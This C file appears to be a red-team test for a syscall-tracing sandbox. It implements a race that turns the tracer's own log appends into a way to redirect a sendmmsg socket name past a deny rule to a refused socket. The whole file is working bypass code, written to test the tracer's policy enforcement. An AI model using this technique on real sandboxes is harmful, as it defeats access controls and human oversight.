/* log_tail_send.c: a sendmmsg's message name in the tail of the run's own --log, to which the
 * tracer appends the call's own decision record between its read of the name and the kernel's
 * (red team 55; log_tail_open.c is the same with a path).
 *
 * usage: log_tail_send LOG SECRET_SOCKET TRIES      (cwd: a directory the program may write)
 *
 * A decision a rule made is logged (--log FILE), its record written on the tracer's thread
 * before the call is resumed.  The program maps the page of LOG that holds its end
 * (MAP_PRIVATE, read-only: a clean page shows every append) right after an anonymous page of
 * its own, whose last two bytes are AF_UNIX: a sockaddr_un whose sun_path is the log page's
 * first bytes.  When the log's size ends 1..12 bytes into a page, those bytes (the tail of the
 * last record) are the name the tracer reads -- msg_namelen covers two bytes more, past the
 * file's end, read as zeros -- a datagram socket of the program's own (the decoy), which a
 * rule permits; the record of the decision lands there, and the kernel reads the name with
 * the record's first two bytes, always `{"`: a symlink to SECRET_SOCKET, which the policy
 * refuses.  A sendmmsg's names are never copied by a hold (only a freeze holds them).
 * The log grows by opens of names below the cwd that do not exist (permitted by a rule,
 * logged: ENOENT) until its size lands in the window.
 *
 * NATIVE=1 (the control): no tracer writes the log; the program writes the records and the
 * `{"` itself, proving the kernel reads the longer name through the mapping.
 *
 * ESCAPED: the send succeeded and the decoy got nothing (the datagram went through the
 * symlink); BLOCKED: never.
 */
#include "attack.h"

#include <sys/mman.h>

#define ROOM 12   /* the most bytes of the log's text the name takes */
#define MIN_PAD 8
#define MAX_PAD 97

static int native;
static int logw = -1;

static off_t log_size(int fd) {
    struct stat st;
    if (fstat(fd, &st) != 0)
        blocked("fstat of the log: %s", ename(errno));
    return st.st_size;
}

/* what a record begins with: {"time": and the time's whole seconds */
static void record_start(char *out, size_t room) {
    snprintf(out, room, "{\"time\":%lld.", (long long)time(NULL));
}

/* One record more in the log: a permitted, logged open of a name that does not exist
 * (natively: a line of about that length written by the program itself). */
static void pad(unsigned len) {
    char name[128];
    memset(name, 'p', len);
    name[len] = 0;
    if (native) {
        char line[800], start[64];
        record_start(start, sizeof start);
        int k = snprintf(line, sizeof line, "%s123456,\"path\":\"%s\",\"flags\":0}}\n", start,
                         name);
        if (write(logw, line, k) != k)
            blocked("write of the log: %s", ename(errno));
        return;
    }
    int fd = open(name, O_RDONLY | O_CLOEXEC);
    if (fd >= 0)
        close(fd);
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: %s LOG SECRET TRIES\n", argv[0]);
        return 2;
    }
    const char *log = argv[1], *secret = argv[2];
    int tries = atoi(argv[3]);
    native = getenv("NATIVE") != NULL;
    int fd = open(log, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        blocked("open of the log: %s", ename(errno));
    if (native && (logw = open(log, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0)
        blocked("open of the log for writing: %s", ename(errno));
    long page = sysconf(_SC_PAGESIZE);
    char *area = mmap(NULL, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (area == MAP_FAILED)
        blocked("mmap: %s", ename(errno));
    int attempts = 0, decoys = 0;
    /* a record's length: c + a * (the name's length) */
    off_t before = log_size(fd);
    pad(10);
    off_t d1 = log_size(fd) - before;
    before = log_size(fd);
    pad(40);
    off_t d2 = log_size(fd) - before;
    /* (rounded: the two times' texts may differ by a few digits, trailing zeros dropped) */
    long a = (d2 - d1 + 15) / 30 > 0 ? (d2 - d1 + 15) / 30 : 1, c = d1 - 10 * a;
    unsigned missed = 0;  /* pads since the last try: past 40, lengths of their own */
    for (unsigned n = 0; n < (unsigned)tries * 200 && attempts < tries; n++) {
        off_t size = log_size(fd);
        off_t used = size % page;
        if (used < 1 || used > ROOM) {
            long need = page - used + ROOM / 2, len = MAX_PAD;
            if (need >= c + a * MIN_PAD && need <= c + a * MAX_PAD)
                len = (need - c) / a;
            else if (need < c + a * MIN_PAD)
                len = MIN_PAD + n % 7;
            if (++missed > 40)
                len = MIN_PAD + (n * 37) % (MAX_PAD - MIN_PAD);
            pad((unsigned)len);
            continue;
        }
        char tail[ROOM + 1];
        if (pread(fd, tail, used, size - used) != used)
            blocked("pread of the log: %s", ename(errno));
        tail[used] = 0;
        if (memchr(tail, '/', used) || strlen(tail) != (size_t)used || !strcmp(tail, ".") ||
            !strcmp(tail, "..")) {
            pad(MIN_PAD + n % 7);
            continue;
        }
        char longer[64];
        snprintf(longer, sizeof longer, "%s{\"", tail);
        unlink(tail);
        unlink(longer);
        int decoy = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        struct sockaddr_un d = {.sun_family = AF_UNIX};
        memcpy(d.sun_path, tail, used + 1);
        if (bind(decoy, (struct sockaddr *)&d, sizeof d) != 0)
            blocked("bind of the decoy: %s", ename(errno));
        if (symlink(secret, longer) != 0)
            blocked("symlink: %s", ename(errno));
        if (log_size(fd) != size) {
            close(decoy);
            continue;
        }
        attempts++;
        missed = 0;
        if (mmap(area + page, page, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, size - used) ==
            MAP_FAILED)
            blocked("mmap of the log: %s", ename(errno));
        sa_family_t family = AF_UNIX;
        memcpy(area + page - sizeof family, &family, sizeof family);
        if (native && write(logw, "{\"time\":1", 9) != 9)
            blocked("write of the log: %s", ename(errno));
        int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        struct iovec iov = {.iov_base = "x", .iov_len = 1};
        struct mmsghdr m = {0};
        m.msg_hdr.msg_name = area + page - sizeof family;
        m.msg_hdr.msg_namelen = sizeof family + used + 2;
        m.msg_hdr.msg_iov = &iov;
        m.msg_hdr.msg_iovlen = 1;
        int rc = sendmmsg(s, &m, 1, 0);
        int err = errno;
        close(s);
        char got[8];
        if (rc == 1 && recv(decoy, got, sizeof got, MSG_DONTWAIT) < 0 && errno == EAGAIN)
            escaped("sent through the log's last %d bytes and the call's own record's first"
                    " two, not to the decoy (try %d)", (int)used, attempts);
        if (rc == 1)
            decoys++;
        else
            note("try %d: sendmmsg: %s", attempts, ename(err));
        close(decoy);
        if (native && write(logw, "}\n", 2) != 2)
            blocked("write of the log: %s", ename(errno));
        mmap(area + page, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED,
             -1, 0);
    }
    blocked("nothing sent past the decoy (%d tries, %d to the decoy)", attempts, decoys);
}
